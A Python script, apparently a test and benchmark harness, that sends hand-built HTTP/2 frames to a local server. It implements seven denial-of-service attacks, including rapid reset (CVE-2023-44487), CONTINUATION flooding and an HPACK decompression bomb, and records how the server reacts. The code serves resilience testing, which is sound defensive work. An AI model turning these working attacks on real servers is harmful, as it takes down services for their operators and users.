"""Hostile HTTP/2 clients for the tests and the attack benchmark: raw
frames over one h2c (prior knowledge) connection, each attack the way its
published advisory describes it. No client library: the frames are the
bytes we choose. Prints one JSON document on stdout.

  h2_attack.py ATTACK --port P [--seconds S] [--count N]

ATTACK is one of
  rapid-reset    HEADERS then RST_STREAM at once, stream after stream
                 (CVE-2023-44487)
  continuation   one HEADERS without END_HEADERS, then CONTINUATION frames
                 without end (CVE-2024-27316 and its class)
  hpack-bomb     one large header put in the dynamic table, then requests
                 that each name it hundreds of times (a few bytes each on
                 the wire, megabytes decoded)
  settings-flood SETTINGS frames without reading the ACKs
  ping-flood     PING frames without reading the PONGs
  zero-window    a receive window of 0, then many requests for large
                 responses that can never be sent
  streams        more streams at once than the server allows, none ended

Every loop is bounded by --count and --seconds. What the server did is
read in a thread as it comes: GOAWAY (with its code), RST_STREAMs, and
whether it closed the connection.
"""

import argparse
import json
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW, CONT = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(ty, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ty, flags]) + struct.pack(">I", sid) + payload


def hint(n, prefix_bits, first=0):
    """HPACK integer (RFC 7541 5.1)."""
    limit = (1 << prefix_bits) - 1
    if n < limit:
        return bytes([first | n])
    out = [first | limit]
    n -= limit
    while n >= 128:
        out.append((n & 127) | 128)
        n >>= 7
    out.append(n)
    return bytes(out)


def hstr(s):
    b = s.encode() if isinstance(s, str) else s
    return hint(len(b), 7) + b


def literal(name, value, index=False):
    """A literal field with a literal name: without indexing, or with
    incremental indexing (into the dynamic table)."""
    return (b"\x40" if index else b"\x00") + hstr(name) + hstr(value)


def request_block(path, authority="localhost", extra=b""):
    return (
        literal(":method", "GET")
        + literal(":scheme", "http")
        + literal(":authority", authority)
        + literal(":path", path)
        + extra
    )


class Conn:
    def __init__(self, port, window=None):
        self.s = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        settings = b""
        if window is not None:
            settings += struct.pack(">HI", 0x4, window)
        self.s.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.goaway = None
        self.rst = 0
        self.headers = 0
        self.closed = False
        self.read_bytes = 0
        self.reading = True
        self.t = threading.Thread(target=self.read, daemon=True)
        self.t.start()

    def read(self):
        buf = b""
        try:
            while self.reading:
                chunk = self.s.recv(65536)
                if not chunk:
                    self.closed = True
                    return
                self.read_bytes += len(chunk)
                buf += chunk
                while len(buf) >= 9:
                    n = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + n:
                        break
                    ty, flags = buf[3], buf[4]
                    payload = buf[9 : 9 + n]
                    buf = buf[9 + n :]
                    if ty == GOAWAY and len(payload) >= 8:
                        self.goaway = int.from_bytes(payload[4:8], "big")
                    elif ty == RST:
                        self.rst += 1
                    elif ty == HEADERS:
                        self.headers += 1
                    elif ty == SETTINGS and not flags & ACK:
                        self.send(frame(SETTINGS, ACK, 0))
        except OSError:
            self.closed = True

    def send(self, b):
        try:
            self.s.sendall(b)
            return True
        except OSError:
            self.closed = True
            return False

    def result(self, **extra):
        time.sleep(0.5)
        self.reading = False
        out = {"goaway": self.goaway, "rst": self.rst, "headers": self.headers,
               "closed": self.closed, "read_bytes": self.read_bytes}
        out.update(extra)
        try:
            self.s.close()
        except OSError:
            pass
        return out


def until(a):
    return time.monotonic() + a.seconds


def rapid_reset(a):
    c = Conn(a.port)
    sid, sent, end = 1, 0, until(a)
    while sent < a.count and time.monotonic() < end and not c.closed:
        batch = b""
        for _ in range(100):
            batch += frame(HEADERS, END_HEADERS | END_STREAM, sid, request_block("/r"))
            batch += frame(RST, 0, sid, struct.pack(">I", 8))  # CANCEL
            sid += 2
            sent += 1
        if not c.send(batch):
            break
    return c.result(streams=sent)


def continuation(a):
    c = Conn(a.port)
    c.send(frame(HEADERS, 0, 1, request_block("/c")))
    sent, end = 0, until(a)
    junk = literal("x-junk", "y" * 16000)
    while sent < a.count and time.monotonic() < end and not c.closed:
        if not c.send(frame(CONT, 0, 1, junk)):
            break
        sent += 1
    return c.result(frames=sent, bytes=sent * len(junk))


def hpack_bomb(a):
    c = Conn(a.port)
    # Into the dynamic table (4 KiB by default): one 4,000-byte value.
    big = literal("x-bomb", "z" * 4000, index=True)
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block("/b", extra=big)))
    sid, sent, end = 3, 0, until(a)
    # Index 62 is the newest dynamic entry: one byte names 4 KiB.
    refs = bytes([0x80 | 62]) * 1000
    while sent < a.count and time.monotonic() < end and not c.closed:
        if not c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, request_block("/b", extra=refs))):
            break
        sid += 2
        sent += 1
    return c.result(requests=sent, decoded_per_request=4000 * 1000)


def settings_flood(a):
    c = Conn(a.port)
    c.reading = False  # the ACKs are never read
    sent, end = 0, until(a)
    batch = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x3, 100)) * 100
    while sent < a.count and time.monotonic() < end and not c.closed:
        if not c.send(batch):
            break
        sent += 100
    return c.result(frames=sent)


def ping_flood(a):
    c = Conn(a.port)
    c.reading = False  # the PONGs are never read
    sent, end = 0, until(a)
    batch = frame(PING, 0, 0, b"12345678") * 100
    while sent < a.count and time.monotonic() < end and not c.closed:
        if not c.send(batch):
            break
        sent += 100
    return c.result(frames=sent)


def hold_streams(a, c, flags, path):
    """Open --count streams with `flags` on their HEADERS, then hold the
    connection until --seconds are up."""
    sid, sent = 1, 0
    for _ in range(a.count):
        if not c.send(frame(HEADERS, flags, sid, request_block(path))):
            break
        sid += 2
        sent += 1
    end = until(a)
    while time.monotonic() < end and not c.closed:
        time.sleep(0.1)
    return c.result(streams=sent)


def zero_window(a):
    # Requests for large answers that a window of 0 never lets out.
    return hold_streams(a, Conn(a.port, window=0), END_HEADERS | END_STREAM, a.path)


def streams(a):
    # Heads without END_STREAM: each stream stays open.
    return hold_streams(a, Conn(a.port), END_HEADERS, "/s")


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation": continuation,
    "hpack-bomb": hpack_bomb,
    "settings-flood": settings_flood,
    "ping-flood": ping_flood,
    "zero-window": zero_window,
    "streams": streams,
}


def main():
    p = argparse.ArgumentParser()
    p.add_argument("attack", choices=sorted(ATTACKS))
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--seconds", type=float, default=5.0)
    p.add_argument("--count", type=int, default=100_000)
    p.add_argument("--path", default="/big/1000000")
    a = p.parse_args()
    t0 = time.monotonic()
    out = ATTACKS[a.attack](a)
    out["seconds"] = round(time.monotonic() - t0, 3)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
